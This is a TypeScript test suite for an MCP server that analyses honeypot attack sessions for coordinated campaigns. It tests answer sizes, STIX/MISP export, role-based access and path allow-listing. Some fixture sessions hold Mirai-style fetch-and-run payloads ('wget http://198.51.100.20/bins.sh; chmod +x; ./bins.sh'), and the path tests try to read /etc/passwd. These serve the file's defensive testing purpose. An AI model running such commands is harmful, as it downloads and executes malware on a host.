/**
 * `dshield-coord mcp` as an assistant uses it: the real command in a child process, driven by
 * the MCP SDK's own client — over stdio (StdioClientTransport) and over streamable HTTP
 * (StreamableHTTPClientTransport). The answers are checked against the CLI run as separate
 * processes (the CLI is the reference: same campaigns, same ids), and every answer is
 * measured: a tool's answer must stay small enough for a model's context.
 */
import { afterAll, beforeAll, describe, expect, test } from "bun:test"
import { existsSync, mkdirSync, mkdtempSync, readFileSync, realpathSync, rmSync, symlinkSync, writeFileSync } from "node:fs"
import { tmpdir } from "node:os"
import { join } from "node:path"
import { Client } from "@modelcontextprotocol/sdk/client/index.js"
import { StdioClientTransport } from "@modelcontextprotocol/sdk/client/stdio.js"
import { StreamableHTTPClientTransport, StreamableHTTPError } from "@modelcontextprotocol/sdk/client/streamableHttp.js"
import type { Result } from "../../src/domain/Result.ts"
import { mispEventUuid } from "../../src/export/misp.ts"
import { lockDataDir } from "../../src/store/dataDirLock.ts"
import { HAVE_CORPORA, RADEC, REPO } from "../cli/helpers.ts"
import { childEnv, cli, cliOk, serve } from "./apiServer.ts"

/** Every answer but an inline export must be under this (an export goes to a file above ~48 KB). */
const SMALL_ANSWER_BYTES = 20 * 1024
const EXPORT_ANSWER_BYTES = 48 * 1024

const dir = realpathSync(mkdtempSync(join(tmpdir(), "dshield-mcp-")))
const genDir = join(dir, "gen")
const genLog = join(genDir, "cowrie.json")
const env = childEnv({})

interface Answer {
  readonly text: string
  readonly isError: boolean
  readonly bytes: number
}

/** Calls a tool and returns its one text block (every tool answers one). */
const call = async (client: Client, name: string, args: Record<string, unknown>, timeoutMs = 120_000): Promise<Answer> => {
  const result = await client.callTool({ name, arguments: args }, undefined, { timeout: timeoutMs })
  const content = result.content as Array<{ type: string; text: string }>
  expect(content).toHaveLength(1)
  expect(content[0]!.type).toBe("text")
  return { text: content[0]!.text, isError: result.isError === true, bytes: Buffer.byteLength(JSON.stringify(result)) }
}

const ok = async (client: Client, name: string, args: Record<string, unknown>, limit = SMALL_ANSWER_BYTES) => {
  const answer = await call(client, name, args)
  if (answer.isError) throw new Error(`${name} failed: ${answer.text}`)
  expect(answer.bytes).toBeLessThan(limit)
  return JSON.parse(answer.text) as Record<string, any>
}

/** A refusal: isError with one sentence (no line breaks, ends with a full stop). */
const refused = async (client: Client, name: string, args: Record<string, unknown>): Promise<string> => {
  const answer = await call(client, name, args)
  expect(answer.isError).toBe(true)
  expect(answer.text).not.toContain("\n")
  expect(answer.text).toMatch(/[.]$/)
  return answer.text
}

const families = (result: Result) => result.campaigns.filter((c) => c.level === "family")

/** The reference: `dshield-coord analyze --out` of the same file, in its own process. */
const referenceResult = async (input: string, name: string): Promise<Result> => {
  const out = join(dir, `${name}.reference.json`)
  await cliOk(["analyze", "--quiet", "--out", out, input], REPO, env)
  return JSON.parse(readFileSync(out, "utf8")) as Result
}

/** The summary agrees with the reference Result: counts, and the top families one by one. */
const expectSummaryOf = (summary: Record<string, any>, reference: Result) => {
  const refFamilies = families(reference)
  expect(summary.families).toBe(refFamilies.length)
  expect(summary.variants).toBe(reference.campaigns.filter((c) => c.level === "variant").length)
  expect(summary.waves).toBe(reference.campaigns.filter((c) => c.level === "wave").length)
  expect(summary.unclustered_sessions).toBe(reference.unclustered_sessions)
  expect(summary.input.sessions).toBe(reference.input.sessions)
  expect(summary.shown).toBe(Math.min(10, refFamilies.length))
  for (const [i, family] of summary.top_families.entries()) {
    const ref = refFamilies[i]!
    expect(family.id).toBe(ref.id)
    expect(family.sessions).toBe(ref.sessions.length)
    expect(family.source_ips).toBe(ref.source_ips.length)
    expect(family.assessment).toBe(ref.assessment)
    expect(Math.abs(family.confidence - ref.confidence)).toBeLessThanOrEqual(0.0005)
    expect(family.first_seen).toBe(ref.first_seen)
    expect(family.indicators.length).toBeLessThanOrEqual(5)
    expect(family.techniques.length).toBeLessThanOrEqual(5)
  }
  // The whole Result is on the server's disk, with the reference's campaigns.
  const written = JSON.parse(readFileSync(summary.result_file, "utf8")) as Result
  expect(written.run.id).toBe(summary.run_id)
  expect(written.campaigns).toEqual(reference.campaigns)
}

let genReference: Result

beforeAll(async () => {
  await cliOk(["generate", "--sessions", "600", "--seed", "7", "--out", genDir, "--quiet"], REPO, env)
  genReference = await referenceResult(genLog, "gen")
}, 120_000)

afterAll(() => {
  rmSync(dir, { recursive: true, force: true })
})

describe("dshield-coord mcp on the command line", () => {
  test("usage errors are one sentence and exit code 2", async () => {
    for (const [args, says] of [
      [["mcp", "--host", "0.0.0.0"], "--host needs --http PORT"],
      [["mcp", "--http", "8080", "--tenant", "acme"], "--tenant is for stdio"],
      [["mcp", "--allow-paths", "relative/dir"], "is not absolute"],
      [["mcp", "--http", "70000"], "--http must be a whole number between 0 and 65535"]
    ] as const) {
      const run = await cli(args, REPO, env)
      expect(run.code).toBe(2)
      expect(run.stderr).toContain(says)
      expect(run.stderr.trim().split("\n")).toHaveLength(1)
    }
    const help = await cli(["mcp", "--help"], REPO, env)
    expect(help.stdout).toContain("--allow-paths ROOT")
    expect((await cli(["--help"], REPO, env)).stdout).toMatch(/\n  mcp +serve the engine to assistants/)
  })

  test("over stdio the server exits when the client closes its stdin", async () => {
    const proc = Bun.spawn([process.execPath, "src/cli/main.ts", "mcp", "--quiet", "--state-dir", join(dir, "exit-state")], { cwd: REPO, env, stdin: "pipe", stdout: "pipe", stderr: "pipe" })
    proc.stdin.write(`${JSON.stringify({ jsonrpc: "2.0", id: 1, method: "tools/list" })}\n`)
    const reader = proc.stdout.getReader()
    const first = new TextDecoder().decode((await reader.read()).value)
    // Nothing but protocol messages on stdout.
    expect(JSON.parse(first.split("\n")[0]!).jsonrpc).toBe("2.0")
    proc.stdin.end()
    const exited = await Promise.race([proc.exited, Bun.sleep(10_000).then(() => "still running")])
    expect(exited).toBe(0)
  }, 30_000)
})

describe("dshield-coord mcp over stdio", () => {
  const stdioDb = join(dir, "stdio-db")
  const outside = join(dir, "outside")
  let client: Client
  let stderr = ""

  beforeAll(async () => {
    mkdirSync(outside, { recursive: true })
    writeFileSync(join(outside, "secret.log"), "not for the server\n")
    // A symlink inside an allowed root that points out of it.
    symlinkSync(join(outside, "secret.log"), join(genDir, "escape.log"))
    const roots = [genDir, ...(HAVE_CORPORA ? [join(RADEC, "..")] : [])].join(",")
    const transport = new StdioClientTransport({
      command: process.execPath,
      args: ["src/cli/main.ts", "mcp", "--allow-paths", roots, "--data-dir", stdioDb, "--quiet"],
      cwd: REPO,
      env,
      stderr: "pipe"
    })
    transport.stderr?.on("data", (chunk: Buffer) => {
      stderr += chunk.toString()
    })
    client = new Client({ name: "dshield-coord-test", version: "1.0.0" })
    await client.connect(transport)
  }, 60_000)

  afterAll(async () => {
    await client?.close()
    if (stderr.trim() !== "") console.warn(`mcp stderr:\n${stderr}`)
  })

  test("lists the five tools, each with an object input schema that refuses unknown keys", async () => {
    const { tools } = await client.listTools()
    expect(tools.map((t) => t.name)).toEqual(["analyze_coordination", "assess_sessions", "list_campaigns", "get_campaign", "export_campaign"])
    for (const tool of tools) {
      expect(tool.inputSchema.type).toBe("object")
      expect(Object.keys(tool.inputSchema.properties ?? {}).length).toBeGreaterThan(0)
      expect((tool.inputSchema as { additionalProperties?: unknown }).additionalProperties).toBe(false)
      expect(tool.description!.length).toBeGreaterThan(40)
    }
    const analyze = tools[0]!.inputSchema.properties as Record<string, any>
    expect(Object.keys(analyze).sort()).toEqual(["attack_sessions", "format", "paths", "seed", "top"])
    // The session shape is the earlier engine's (api/Contract.ts).
    expect(Object.keys(analyze.attack_sessions.items.properties).sort()).toEqual(["payload", "protocol", "source_ip", "target_port", "timestamp"])
    expect(analyze.attack_sessions.maxItems).toBe(10_000)
    expect(analyze.top.maximum).toBe(50)
    expect(tools.find((t) => t.name === "list_campaigns")!.annotations?.readOnlyHint).toBe(true)
  })

  let genRun: Record<string, any>

  test("analyze_coordination of a generated log agrees with `dshield-coord analyze`", async () => {
    genRun = await ok(client, "analyze_coordination", { paths: [genLog] })
    expectSummaryOf(genRun, genReference)
    expect(genRun.result_file.startsWith(join(dir, "mcp"))).toBe(true)
  }, 120_000)

  test("analyze_coordination of the radec73 corpus agrees with `dshield-coord analyze` and stays small", async () => {
    if (!HAVE_CORPORA) {
      console.warn(`SKIPPED: ${RADEC} is missing; the corpus half of the MCP test did not run.`)
      return
    }
    const reference = await referenceResult(RADEC, "radec")
    const summary = await ok(client, "analyze_coordination", { paths: [RADEC] })
    expectSummaryOf(summary, reference)
    // The whole Result is far larger than the answer.
    expect(summary.result_bytes).toBeGreaterThan(5 * SMALL_ANSWER_BYTES)
    // Export of its largest family: too large to answer inline, so written to a file.
    const exported = await ok(client, "export_campaign", { run_id: summary.run_id, campaign_id: summary.top_families[0].id, format: "stix" })
    expect(exported.family_id).toBe(summary.top_families[0].id)
    expect(exported.bytes).toBeGreaterThan(EXPORT_ANSWER_BYTES)
    const bundle = JSON.parse(readFileSync(exported.file, "utf8"))
    expect(bundle.type).toBe("bundle")
    expect(bundle.objects.length).toBe(exported.objects)
    // Every tool's answer on the corpus is small.
    const assessed = await ok(client, "assess_sessions", { run_id: summary.run_id, campaign_id: summary.top_families[1].id })
    expect(assessed.sessions).toBe(summary.top_families[1].sessions)
    for (const format of ["stix", "misp"]) {
      for (const family of summary.top_families) {
        const answer = await call(client, "export_campaign", { run_id: summary.run_id, campaign_id: family.id, format })
        expect(answer.isError).toBe(false)
        expect(answer.bytes).toBeLessThan(EXPORT_ANSWER_BYTES + 4096)
      }
    }
  }, 180_000)

  test("assess_sessions of a campaign of a run tests it against the rest of that input", async () => {
    const family = genRun.top_families[0]
    const assessed = await ok(client, "assess_sessions", { run_id: genRun.run_id, campaign_id: family.id })
    expect(assessed.sessions).toBe(family.sessions)
    expect(assessed.source_ips).toBe(family.source_ips)
    expect(assessed.compared_with).toContain(`${genReference.input.sessions - family.sessions} other sessions of the same input`)
    expect(["highly_coordinated", "likely_coordinated", "possibly_coordinated", "likely_coincidental", "coincidental", "single_source"]).toContain(assessed.assessment)
    expect(assessed.confidence_interval[0]).toBeLessThanOrEqual(assessed.confidence_interval[1])
    expect(assessed.evidence.length).toBeGreaterThanOrEqual(3)
    for (const sentence of assessed.evidence) {
      expect(sentence).toMatch(/^[A-Z][a-z ]+ scored \d\.\d{3} with p-value \S+/)
      expect(sentence).toMatch(/\.$/)
    }
    // The same sessions named by id give the same assessment.
    const sessions = genReference.campaigns.find((c) => c.id === family.id)!.sessions
    const byIds = await ok(client, "assess_sessions", { run_id: genRun.run_id, session_ids: [...sessions] })
    expect(byIds).toEqual(assessed)
    const missing = await refused(client, "assess_sessions", { run_id: genRun.run_id, session_ids: [sessions[0], "no-such-session"] })
    expect(missing).toContain("1 of the 2 session ids are not in the input")
  }, 60_000)

  test("assess_sessions of inline sessions, against a synthetic background or a run's input", async () => {
    const attack_sessions = ["203.0.113.5", "203.0.113.77", "198.51.100.9", "192.0.2.44"].map((ip, i) => ({
      source_ip: ip,
      timestamp: `2024-04-03T08:0${i}:00Z`,
      payload: "cd /tmp; wget http://198.51.100.20/bins.sh; chmod +x bins.sh; ./bins.sh mirai.x86",
      target_port: 22,
      protocol: "ssh"
    }))
    const synthetic = await ok(client, "assess_sessions", { attack_sessions })
    expect(synthetic.sessions).toBe(4)
    expect(synthetic.source_ips).toBe(4)
    expect(synthetic.compared_with).toContain("synthetic background")
    const own = await ok(client, "assess_sessions", { attack_sessions, reference_run_id: genRun.run_id })
    expect(own.compared_with).toBe(`${genReference.input.sessions} sessions of the input of ${genRun.run_id}`)
    expect(await refused(client, "assess_sessions", { attack_sessions, campaign_id: genRun.top_families[0].id })).toContain("give them with run_id")
  }, 60_000)

  test("analyze_coordination of inline attack_sessions", async () => {
    const attack_sessions = Array.from({ length: 12 }, (_, i) => ({
      source_ip: `198.51.${100 + (i % 4)}.${10 + i}`,
      timestamp: 1712131200 + i * 60,
      payload: i < 8 ? "echo -e '\\x6F\\x6B' > /tmp/.k; cat /proc/cpuinfo; wget http://203.0.113.9/x.sh" : "uname -a",
      target_port: 22,
      protocol: "ssh"
    }))
    const summary = await ok(client, "analyze_coordination", { attack_sessions })
    expect(summary.input.sessions).toBe(12)
    const written = JSON.parse(readFileSync(summary.result_file, "utf8")) as Result
    expect(written.input.files[0]!.format).toBe("sessions")
    expect(summary.families).toBe(families(written).length)
  }, 60_000)

  test("export_campaign answers STIX and MISP documents with the CLI export's ids", async () => {
    const family = genRun.top_families[genRun.top_families.length - 1]
    const bundle = await ok(client, "export_campaign", { run_id: genRun.run_id, campaign_id: family.id, format: "stix" }, EXPORT_ANSWER_BYTES + 4096)
    expect(bundle.type).toBe("bundle")
    const campaigns = bundle.objects.filter((o: { type: string }) => o.type === "campaign")
    expect(campaigns.map((o: { x_dshield_campaign_id: string }) => o.x_dshield_campaign_id)).toContain(family.id)
    // `dshield-coord export --stix` of the reference gives the same campaign objects (ids derive from campaign ids).
    const stixFile = join(dir, "reference.stix.json")
    const mispDir = join(dir, "reference-misp")
    await cliOk(["export", "--quiet", "--stix", stixFile, "--misp", mispDir, join(dir, "gen.reference.json")], REPO, env)
    const referenceIds = new Set((JSON.parse(readFileSync(stixFile, "utf8")).objects as Array<{ id: string }>).map((o) => o.id))
    for (const c of campaigns) expect(referenceIds.has(c.id)).toBe(true)
    // A variant or wave exports its family.
    const child = genReference.campaigns.find((c) => c.parent_id === family.id)
    if (child !== undefined) {
      const viaChild = await ok(client, "export_campaign", { run_id: genRun.run_id, campaign_id: child.id, format: "misp" }, EXPORT_ANSWER_BYTES + 4096)
      expect(viaChild.Event.uuid).toBe(mispEventUuid(family.id))
    }
    const toFile = await ok(client, "export_campaign", { run_id: genRun.run_id, campaign_id: family.id, format: "misp", tlp: "green", to_file: true })
    const event = JSON.parse(readFileSync(toFile.file, "utf8"))
    expect(event.Event.uuid).toBe(mispEventUuid(family.id))
    expect(existsSync(join(mispDir, `${event.Event.uuid}.json`))).toBe(true)
    expect(event.Event.Tag.map((t: { name: string }) => t.name)).toContain("tlp:green")
    expect(await refused(client, "export_campaign", { run_id: "run-0000000000000000", campaign_id: family.id, format: "stix" })).toContain("no run run-0000000000000000")
    expect(await refused(client, "export_campaign", { run_id: genRun.run_id, campaign_id: "c-0000000000000000", format: "stix" })).toContain("has no campaign")
  }, 60_000)

  test("paths outside --allow-paths are refused, and nothing is read", async () => {
    for (const path of ["/etc/passwd", join(outside, "secret.log"), join(genDir, "escape.log")]) {
      expect(await refused(client, "analyze_coordination", { paths: [path] })).toContain("is not under a directory this server allows (--allow-paths)")
    }
    // Missing under a root: said so; missing outside every root: still only "not under a root".
    expect(await refused(client, "analyze_coordination", { paths: [join(genDir, "no-such.json")] })).toContain(`The path ${join(genDir, "no-such.json")} does not exist; check the name`)
    expect(await refused(client, "analyze_coordination", { paths: [join(outside, "no-such.json")] })).toContain("is not under a directory this server allows (--allow-paths)")
    expect(await refused(client, "analyze_coordination", { paths: [`${genDir}/../outside/secret.log`] })).toContain("must be absolute, without \"..\"")
    expect(await refused(client, "analyze_coordination", { paths: ["gen/cowrie.json"] })).toContain("must be absolute")
    // Arguments outside the tool's schema are one sentence too.
    expect(await refused(client, "analyze_coordination", { paths: [genLog], attack_sessions: [] })).toContain("not valid")
    expect(await refused(client, "analyze_coordination", { paths: [genLog], everything: true })).toContain("Expected no excess property")
    expect(await refused(client, "analyze_coordination", {})).toContain("exactly one of them")
    expect(await refused(client, "analyze_coordination", { paths: [genLog], top: 51 })).toContain("not valid")
  })

  test("list_campaigns and get_campaign read the store per call, so store commands run meanwhile", async () => {
    expect(await refused(client, "list_campaigns", {})).toContain("There is no store in")
    // PGlite admits one process at a time: the server holds the store only during a call,
    // so the CLI can keep an analysis while the server runs.
    await cliOk(["analyze", "--store", "--quiet", "--data-dir", stdioDb, genLog], REPO, env)
    const listed = await ok(client, "list_campaigns", { limit: 100 })
    expect(listed.tenant).toBe("default")
    expect(listed.campaigns.length).toBe(genReference.campaigns.length)
    const family = listed.campaigns.find((c: { level: string }) => c.level === "family")
    const one = await ok(client, "get_campaign", { campaign_id: family.id })
    expect(one.sessions).toBe(family.sessions)
    expect(one.session_ids.length).toBe(Math.min(20, family.sessions))
    const high = await ok(client, "list_campaigns", { min_confidence: 0.8, limit: 3 })
    expect(high.campaigns.length).toBeLessThanOrEqual(3)
    for (const c of high.campaigns) expect(c.confidence).toBeGreaterThanOrEqual(0.8)
    expect(await refused(client, "get_campaign", { campaign_id: "c-0000000000000000" })).toContain("no stored campaign c-0000000000000000")
    // A call while another process holds the store is refused with that sentence, and the
    // server keeps serving.
    const release = lockDataDir(stdioDb)
    expect(await refused(client, "list_campaigns", {})).toContain("is in use by dshield-coord process")
    release()
    expect((await ok(client, "list_campaigns", { limit: 1 })).campaigns.length).toBe(1)
  }, 120_000)
})

describe("dshield-coord mcp --http", () => {
  const httpDb = join(dir, "http-db")
  let proc: ReturnType<typeof Bun.spawn> | undefined
  let url: URL
  let analystKey = ""
  let viewerKey = ""
  let otherTenantKey = ""
  let accessToken = ""
  let storedIds: Array<string> = []
  const clients: Array<Client> = []

  const connect = async (headers: Record<string, string>): Promise<Client> => {
    const client = new Client({ name: "dshield-coord-test", version: "1.0.0" })
    await client.connect(new StreamableHTTPClientTransport(url, { requestInit: { headers } }))
    clients.push(client)
    return client
  }

  beforeAll(async () => {
    // The store's commands first: PGlite admits one process, and the server keeps it open.
    await cliOk(["analyze", "--store", "--quiet", "--data-dir", httpDb, "--tenant", "acme", genLog], REPO, env)
    analystKey = (await cliOk(["keys", "create", "--role", "analyst", "--tenant", "acme", "--data-dir", httpDb], REPO, env)).trim()
    viewerKey = (await cliOk(["keys", "create", "--role", "viewer", "--tenant", "acme", "--data-dir", httpDb], REPO, env)).trim()
    otherTenantKey = (await cliOk(["keys", "create", "--role", "analyst", "--tenant", "other", "--data-dir", httpDb], REPO, env)).trim()
    // An access token of `serve` (same store, same key ring) works here too.
    const api = await serve(["--data-dir", httpDb], REPO, env)
    const issued = await fetch(`${api.url}/auth/token`, { method: "POST", headers: { "X-API-Key": viewerKey } })
    accessToken = ((await issued.json()) as { access_token: string }).access_token
    await api.stop()
    const listed = await cliOk(["campaigns", "list", "--all", "--tenant", "acme", "--data-dir", httpDb], REPO, env)
    storedIds = listed.trim().split("\n").slice(1).map((line) => line.split(/\s+/)[0]!)
    proc = Bun.spawn([process.execPath, "src/cli/main.ts", "mcp", "--http", "0", "--quiet", "--data-dir", httpDb, "--allow-paths", genDir], {
      cwd: REPO,
      env,
      stdin: "ignore",
      stdout: "pipe",
      stderr: "inherit"
    })
    const reader = (proc.stdout as ReadableStream<Uint8Array>).getReader()
    let out = ""
    while (!out.includes("\n")) {
      const { value, done } = await reader.read()
      if (done) throw new Error("mcp --http exited before printing its URL")
      out += new TextDecoder().decode(value)
    }
    url = new URL(out.trim())
  }, 120_000)

  afterAll(async () => {
    await Promise.all(clients.map((c) => c.close().catch(() => undefined)))
    proc?.kill("SIGTERM")
    await proc?.exited
  })

  test("binds to 127.0.0.1 and serves /mcp", () => {
    expect(url.hostname).toBe("127.0.0.1")
    expect(url.pathname).toBe("/mcp")
  })

  test("without a key, or with a wrong one, the server answers 401", async () => {
    const refusedHeaders: Array<Record<string, string>> = [{}, { "X-API-Key": "dsk_AAAAAAAAAAAA_AAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAAA" }, { Authorization: "Bearer not-a-key" }]
    for (const headers of refusedHeaders) {
      const error = await connect(headers).then(() => undefined, (e: unknown) => e)
      expect(error).toBeInstanceOf(StreamableHTTPError)
      expect((error as StreamableHTTPError).code).toBe(401)
    }
    const raw = await fetch(url, { method: "POST", headers: { "content-type": "application/json" }, body: "{}" })
    expect(raw.status).toBe(401)
    expect(((await raw.json()) as { error: { message: string } }).error.message).toContain("X-API-Key")
    const get = await fetch(url, { headers: { "X-API-Key": viewerKey } })
    expect(get.status).toBe(405)
  })

  test("a viewer key lists and reads its tenant's campaigns but cannot analyze", async () => {
    const viewer = await connect({ "X-API-Key": viewerKey })
    expect((await viewer.listTools()).tools).toHaveLength(5)
    const listed = await ok(viewer, "list_campaigns", { limit: 100 })
    expect(listed.tenant).toBe("acme")
    expect(listed.campaigns.map((c: { id: string }) => c.id).sort()).toEqual([...storedIds].sort())
    const one = await ok(viewer, "get_campaign", { campaign_id: storedIds[0] })
    expect(one.id).toBe(storedIds[0])
    expect(await refused(viewer, "analyze_coordination", { paths: [genLog] })).toBe("analyze_coordination needs the analyst role; the API key in use has the viewer role.")
    expect(await refused(viewer, "assess_sessions", { run_id: "run-0000000000000000", campaign_id: storedIds[0] })).toContain("needs the analyst role")
  })

  test("an access token issued by `serve` for a key acts as that key", async () => {
    const viaToken = await connect({ Authorization: `Bearer ${accessToken}` })
    expect((await ok(viaToken, "list_campaigns", { limit: 1 })).tenant).toBe("acme")
    expect(await refused(viaToken, "analyze_coordination", { paths: [genLog] })).toContain("viewer role")
  })

  test("an analyst key (as a bearer) analyzes; the run is its tenant's alone", async () => {
    const analyst = await connect({ Authorization: `Bearer ${analystKey}` })
    const progress: Array<number> = []
    const result = await analyst.callTool({ name: "analyze_coordination", arguments: { paths: [genLog] } }, undefined, {
      timeout: 120_000,
      onprogress: (p) => progress.push(p.progress)
    })
    expect(result.isError).toBeUndefined()
    const text = (result.content as Array<{ text: string }>)[0]!.text
    expect(Buffer.byteLength(text)).toBeLessThan(SMALL_ANSWER_BYTES)
    const summary = JSON.parse(text)
    expectSummaryOf(summary, genReference)
    expect(progress.length).toBeGreaterThan(0)
    // A viewer of the same tenant may export the run; a key of another tenant cannot see it.
    const viewer = await connect({ "X-API-Key": viewerKey })
    const exported = await ok(viewer, "export_campaign", { run_id: summary.run_id, campaign_id: summary.top_families[0].id, format: "misp" }, EXPORT_ANSWER_BYTES + 4096)
    expect(exported.Event.uuid).toBe(mispEventUuid(summary.top_families[0].id))
    const other = await connect({ "X-API-Key": otherTenantKey })
    expect(await refused(other, "export_campaign", { run_id: summary.run_id, campaign_id: summary.top_families[0].id, format: "misp" })).toContain(`no run ${summary.run_id} for your tenant`)
    const otherList = await ok(other, "list_campaigns", {})
    expect(otherList.campaigns).toEqual([])
    expect(await refused(other, "get_campaign", { campaign_id: storedIds[0] })).toContain("no stored campaign")
    // Paths outside --allow-paths are refused over HTTP too.
    expect(await refused(analyst, "analyze_coordination", { paths: ["/etc/passwd"] })).toContain("--allow-paths")
  }, 120_000)
})
